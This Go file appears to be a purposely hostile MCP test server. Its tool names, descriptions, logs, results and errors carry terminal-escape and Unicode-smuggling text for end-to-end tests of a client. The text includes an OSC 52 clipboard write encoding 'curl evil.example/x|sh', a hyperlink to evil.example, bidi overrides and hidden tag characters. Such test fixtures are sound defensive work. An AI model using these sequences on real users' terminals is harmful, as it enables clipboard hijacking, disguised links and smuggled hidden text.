package main

import (
	"context"
	"errors"

	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// hostileText is server text built to attack a terminal and a reader: an
// OSC 52 clipboard write, an OSC 8 hyperlink, a screen clear, a DCS
// string, an 8-bit CSI (U+009B as UTF-8), bidi overrides and isolates,
// Unicode tags (ASCII smuggling), zero-width characters, DEL and a TAB.
// The e2e tests compare --output files with it byte for byte.
const hostileText = "start " +
	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==\x07" +
	"\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\ " +
	"\x1b[2J\x1b[H" +
	"\x1bPq#0;2;0;0;0#0~~\x1b\\" +
	"\u009b31mred\u009b0m " +
	"\u202eevil\u202c \u2066iso\u2069 " +
	"hi\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f " +
	"zero\u200bwidth\ufeff del\x7f tab\there " +
	"end"

// implementation is the server's serverInfo and options: in mode escapes
// its name, version and instructions carry hostileText too.
func implementation(mode string) (*mcp.Implementation, *mcp.ServerOptions) {
	if mode != "escapes" {
		return &mcp.Implementation{Name: "hostile", Version: "1.0.0"}, nil
	}
	return &mcp.Implementation{Name: "hostile " + hostileText, Title: hostileText, Version: "1.0\u009b2J\x1b]52;c;eA==\x07\u202e"},
		&mcp.ServerOptions{Instructions: hostileText}
}

// addEscapeTools adds the tools of mode escapes: each puts hostileText in
// one more place a client shows to a person.
func addEscapeTools(s *mcp.Server) {
	readOnly := &mcp.ToolAnnotations{ReadOnlyHint: true}
	s.AddTool(&mcp.Tool{Name: "escapes", Title: "escapes " + hostileText, Description: "returns hostile text " + hostileText,
		InputSchema: obj(nil), Annotations: readOnly},
		func(ctx context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			_ = req.Session.Log(ctx, &mcp.LoggingMessageParams{Level: "info", Logger: "log " + hostileText, Data: "message " + hostileText})
			if tok := req.Params.GetProgressToken(); tok != nil {
				_ = req.Session.NotifyProgress(ctx, &mcp.ProgressNotificationParams{ProgressToken: tok, Progress: 1, Total: 2, Message: "progress " + hostileText})
			}
			return &mcp.CallToolResult{Content: []mcp.Content{
				&mcp.TextContent{Text: hostileText},
				&mcp.ResourceLink{URI: "file:///x" + hostileText, Name: "link " + hostileText, MIMEType: "text/plain\x1b[2J"},
			}}, nil
		})
	s.AddTool(&mcp.Tool{Name: "escapes_structured", Description: "structured content only", InputSchema: obj(nil), Annotations: readOnly},
		func(context.Context, *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return &mcp.CallToolResult{Content: []mcp.Content{}, StructuredContent: map[string]any{"k " + hostileText: hostileText}}, nil
		})
	s.AddTool(&mcp.Tool{Name: "escapes_fail", Description: "a tool error in hostile text", InputSchema: obj(nil), Annotations: readOnly},
		func(context.Context, *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return &mcp.CallToolResult{IsError: true, Content: []mcp.Content{&mcp.TextContent{Text: hostileText}}}, nil
		})
	s.AddTool(&mcp.Tool{Name: "escapes_error", Description: "a protocol error in hostile text", InputSchema: obj(nil), Annotations: readOnly},
		func(context.Context, *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return nil, errors.New("upstream said " + hostileText)
		})
}
